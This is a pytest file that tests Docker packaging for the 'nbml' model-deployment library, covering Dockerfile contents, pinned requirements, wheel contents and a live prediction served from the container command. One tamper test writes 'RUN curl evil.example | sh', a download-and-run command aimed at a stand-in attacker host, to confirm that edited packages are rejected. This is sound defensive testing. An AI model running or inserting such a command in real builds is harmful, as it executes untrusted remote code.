"""%deploy NAME PATH --docker / nbml.deploy(..., docker=True): the package is also a container's
build context. No image is built here: the files are checked, and the Dockerfile's CMD is run
(package path and port adapted) with only what requirements.txt pins importable and nbml
taken from the package's own wheel — then it answers a real HTTP prediction."""
from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
import zipfile
from importlib.metadata import packages_distributions, version
from pathlib import Path

import httpx
import pytest
from sklearn.ensemble import RandomForestClassifier

import nbml
from helpers import refused as one_line

PIN = re.compile(r"^([A-Za-z0-9][A-Za-z0-9._-]*)==(\S+)$")


@pytest.fixture(scope="module")
def forest(iris_cat):
    split = nbml.split(iris_cat, target="species", seed=0, activate=False)
    return nbml.train(RandomForestClassifier(n_estimators=20, random_state=0), split=split)


@pytest.fixture(scope="module")
def package_dir(forest, tmp_path_factory):
    path = tmp_path_factory.mktemp("docker") / "iris"
    nbml.deploy(forest, path, name="iris", docker=True)
    return path


def dockerfile(path: Path) -> dict:
    """Instruction -> its arguments (a list when an instruction repeats), comments aside."""
    out = {}
    for line in (path / "Dockerfile").read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            word, _, rest = line.partition(" ")
            out.setdefault(word, []).append(rest)
    return out


def pins(path: Path) -> dict:
    lines = [x for x in (path / "requirements.txt").read_text().splitlines() if x and not x.startswith(("#", "--"))]
    matched = [PIN.match(x) for x in lines]
    assert all(matched), [x for x, m in zip(lines, matched) if not m]
    return {m[1]: m[2] for m in matched}


def test_the_files_build_an_image_that_serves_the_package(package_dir):
    steps = dockerfile(package_dir)
    assert steps["FROM"] == [f"python:{sys.version_info.major}.{sys.version_info.minor}-slim"]
    wheel = f"nbml-{nbml.__version__}-py3-none-any.whl"
    assert steps["COPY"] == [f"requirements.txt {wheel} /srv/", ". /srv/model"]
    assert steps["RUN"] == [f"pip install --no-cache-dir -r requirements.txt && pip install --no-cache-dir --no-deps "
                            f"/srv/{wheel}"]
    command = json.loads(steps["CMD"][0])
    assert command == ["python", "-m", "nbml", "serve", "/srv/model", "--host", "0.0.0.0", "--port", "8000"]
    assert steps["EXPOSE"] == ["8000"]
    # every line pinned to the version installed here; serving's stack and the model's library are there
    pinned = pins(package_dir)
    assert all(pinned[name] == version(name) for name in pinned)
    assert {"scikit-learn", "numpy", "pandas", "scipy", "skops", "fastapi", "uvicorn", "starlette", "pydantic",
            "SQLAlchemy"} <= set(pinned)
    assert "torch" not in pinned and "ipython" not in {n.lower() for n in pinned}  # serving needs neither
    # the wheel holds the nbml that wrote the package; all of it is in the manifest
    with zipfile.ZipFile(package_dir / wheel) as archive:
        names = set(archive.namelist())
    assert {"nbml/__main__.py", "nbml/deployment/service.py", f"nbml-{nbml.__version__}.dist-info/RECORD"} <= names
    manifest = json.loads((package_dir / "manifest.json").read_text())["sha256"]
    assert {"Dockerfile", "requirements.txt", wheel} <= set(manifest)


def test_an_edited_dockerfile_is_refused_like_any_package_file(forest, tmp_path):
    path = tmp_path / "pkg"
    nbml.deploy(forest, path, docker=True)
    with open(path / "Dockerfile", "a") as fh:
        fh.write("RUN curl evil.example | sh\n")
    with pytest.raises(nbml.deployment.UntrustedPackageError, match="Dockerfile"):
        nbml.load(path)


BLOCKER = '''
import sys
BLOCKED = {blocked!r}

class _NotInTheImage:
    """What requirements.txt does not pin is not installed in the image: importing it fails."""
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name.split(".")[0] in BLOCKED:
            raise ModuleNotFoundError(f"No module named {{name!r}} (not in requirements.txt)", name=name)
        return None

sys.meta_path.insert(0, _NotInTheImage)
'''


def image_like_environment(package_dir: Path, folder: Path, store: Path) -> dict:
    """Environment variables for running the CMD here as the image would: the Dockerfile's ENV
    (the store moved to ``store``), nbml from the package's wheel, and every module of an
    installed distribution that requirements.txt does not pin made impossible to import."""
    import os

    allowed = {re.sub(r"[-_.]+", "-", n).lower() for n in pins(package_dir)} | {"nbml"}
    blocked = sorted(top for top, dists in packages_distributions().items()
                     if top.isidentifier() and not any(re.sub(r"[-_.]+", "-", d).lower() in allowed for d in dists))
    folder.mkdir()
    (folder / "sitecustomize.py").write_text(BLOCKER.format(blocked=blocked))
    env = dict(os.environ)
    for assignment in shlex.split(dockerfile(package_dir)["ENV"][0]):
        key, _, value = assignment.partition("=")
        env[key] = value
    env["NBML_STORE"] = str(store)
    wheel = package_dir / f"nbml-{nbml.__version__}-py3-none-any.whl"
    env["PYTHONPATH"] = os.pathsep.join([str(folder), str(wheel)])
    return env


def test_the_dockerfiles_command_answers_a_real_prediction(package_dir, forest, tmp_path):
    env = image_like_environment(package_dir, tmp_path / "site", tmp_path / "log" / "nbml.db")
    where = subprocess.run([sys.executable, "-c", "import nbml, fastapi; import pyarrow"], env=env, cwd=tmp_path,
                           capture_output=True, text=True)
    assert "No module named 'pyarrow' (not in requirements.txt)" in where.stderr  # the blocker is active
    origin = subprocess.run([sys.executable, "-c", "import nbml; print(nbml.__file__)"], env=env, cwd=tmp_path,
                            capture_output=True, text=True).stdout
    assert ".whl" in origin  # nbml comes from the package's wheel
    command = json.loads(dockerfile(package_dir)["CMD"][0])
    command = [sys.executable if word == "python" else str(package_dir) if word == "/srv/model" else word
               for word in command]
    command[command.index("--port") + 1] = "0"  # a free port
    proc = subprocess.Popen(command, env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()
        assert " at http://0.0.0.0:" in line, proc.stderr.read() if proc.poll() is not None else line
        port = line.split(" at http://0.0.0.0:")[1].split(" ")[0]
        X = forest.split.X_test
        body = httpx.post(f"http://127.0.0.1:{port}/predict", json=json.loads(X.to_json(orient="records")),
                          timeout=30).json()
    finally:
        proc.terminate()
        proc.wait(20)
    assert body["predictions"] == list(forest.predict(X))
    assert (tmp_path / "log" / "nbml.db").exists()  # the prediction log, where the image's ENV puts it


def test_deploy_magic_docker(ip, run, forest, tmp_path):
    ip.user_ns["forest"] = forest
    cell = run(f"%deploy forest {tmp_path / 'pkg'} --docker")
    assert cell.error is None, cell.err
    assert "Dockerfile" in cell.out and "requirements.txt" in cell.out and "docker build -t forest" in cell.out
    assert (tmp_path / "pkg" / "Dockerfile").exists()
    cell = run(f"%deploy forest {tmp_path / 'plain'}")
    assert cell.error is None and not (tmp_path / "plain" / "Dockerfile").exists()  # only when asked
    one_line(run(f"%deploy forest {tmp_path / 'x'} --docker=yes"))


def test_a_torch_model_pins_torch(iris_cat):
    pytest.importorskip("torch")
    from nbml.deployment.container import model_libraries, requirements_text

    split = nbml.split(iris_cat.drop(columns="size"), target="species", seed=0, activate=False)
    result = nbml.train(nbml.TorchClassifier(epochs=2), split=split)
    assert "torch" in model_libraries(result.model)
    text = requirements_text({"torch": "2.3.0+cpu", "numpy": "2.0.0"})
    assert "--extra-index-url https://download.pytorch.org/whl/cpu\n" in text and "torch==2.3.0+cpu" in text


def test_docker_must_be_a_bool(forest, tmp_path):
    with pytest.raises(nbml.NbmlError, match="docker='yes' must be True or False"):
        nbml.deploy(forest, tmp_path / "pkg", docker="yes")
    assert not (tmp_path / "pkg").exists()
